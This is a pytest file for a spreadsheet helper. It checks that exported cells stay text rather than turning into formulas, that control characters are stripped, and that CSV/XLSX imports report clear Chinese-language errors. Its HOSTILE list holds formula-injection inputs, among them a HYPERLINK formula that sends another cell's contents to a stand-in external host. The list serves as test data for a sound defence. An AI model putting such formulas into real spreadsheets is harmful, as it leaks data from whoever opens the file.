"""The one cell writer of every spreadsheet: text stays text, XML-illegal characters go."""

from __future__ import annotations

import datetime as dt
import io
import pathlib
import re

import pytest
from openpyxl import Workbook, load_workbook

from zhicheng.common.spreadsheet import TableReadError, row_cells, table_read, text_cell

HOSTILE = ['=HYPERLINK("http://x.example/?"&B2,"张三")', "=1+1", "+1", "-1", "@A1", "\t=1+1", "𠮷😀", "１２３"]


@pytest.mark.parametrize("write_only", [False, True])
def test_row_cells_keep_text_as_text(write_only):
    wb = Workbook(write_only=write_only)
    ws = wb.create_sheet("表") if write_only else wb.active
    ws.append(row_cells(ws, [*HOSTILE, "张\x0b三\x00", 7, 1.5, dt.date(2026, 1, 2), None]))
    buffer = io.BytesIO()
    wb.save(buffer)
    cells = list(load_workbook(buffer).worksheets[0].iter_rows(values_only=False))[0]
    for cell, expected in zip(cells, HOSTILE, strict=False):
        assert cell.data_type == "s" and cell.value == expected
    assert [c.quotePrefix for c in cells[:6]] == [True] * 6 and not cells[6].quotePrefix
    assert cells[len(HOSTILE)].value == "张三"
    assert [c.value for c in cells[len(HOSTILE) + 1:len(HOSTILE) + 3]] == [7, 1.5]
    assert cells[len(HOSTILE) + 3].value.date() == dt.date(2026, 1, 2)


def test_text_cell_of_anything():
    ws = Workbook().active
    assert text_cell(ws, None).value == ""
    assert text_cell(ws, 12).value == "12" and text_cell(ws, 12).data_type == "s"


def test_every_workbook_the_system_writes_uses_the_helper():
    """A module that makes a Workbook imports zhicheng.common.spreadsheet (else its cells may turn
    into formulas or break on a control character)."""
    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        if "tests" in path.parts or "migrations" in path.parts or path.name == "spreadsheet.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\(", text) and "zhicheng.common.spreadsheet" not in text:
            offenders.append(str(path.relative_to(root)))
    assert not offenders, f"spreadsheets written without zhicheng.common.spreadsheet: {offenders}"


def _xlsx(rows: list[list]) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def _csv(rows: list[list]) -> bytes:
    return "\n".join(",".join(str(c) for c in row) for row in rows).encode("utf-8")


@pytest.mark.parametrize("make, name", [(_csv, "名单.csv"), (_xlsx, "名单.XLSX")])
def test_table_read_refuses_too_many_rows_with_that_reason(make, name):
    """The too-many-rows reason reaches the user as itself in both formats (an xlsx over the limit was
    reported as "无法读取该 Excel 文件" while TableReadError was a ValueError the reader caught)."""
    data = make([["姓名", "金额"], *[[f"人{i}", i] for i in range(5)]])
    assert len(table_read(data=data, file_name=name, max_rows=6)) == 6
    with pytest.raises(TableReadError, match="文件超过 5 行，请分批导入"):
        table_read(data=data, file_name=name, max_rows=5)


@pytest.mark.parametrize("data, name, reason", [
    (b"a,b", "x.xls", "请上传 CSV 或 Excel（.xlsx）文件"),
    (b"not a zip", "x.xlsx", "无法读取该 Excel 文件，请确认是 .xlsx 格式"),
    ("姓名,金额\n张三,1".encode("gb18030"), "x.csv", None),  # GB18030, what Excel in Chinese saves
    (b"a," + b"x" * 200_000, "x.csv", "CSV 文件格式有误，无法读取"),  # a field over csv's size limit
])
def test_table_read_reasons(data, name, reason):
    if reason is None:
        assert table_read(data=data, file_name=name, max_rows=10) == [["姓名", "金额"], ["张三", "1"]]
        return
    with pytest.raises(TableReadError, match=re.escape(reason)):
        table_read(data=data, file_name=name, max_rows=10)
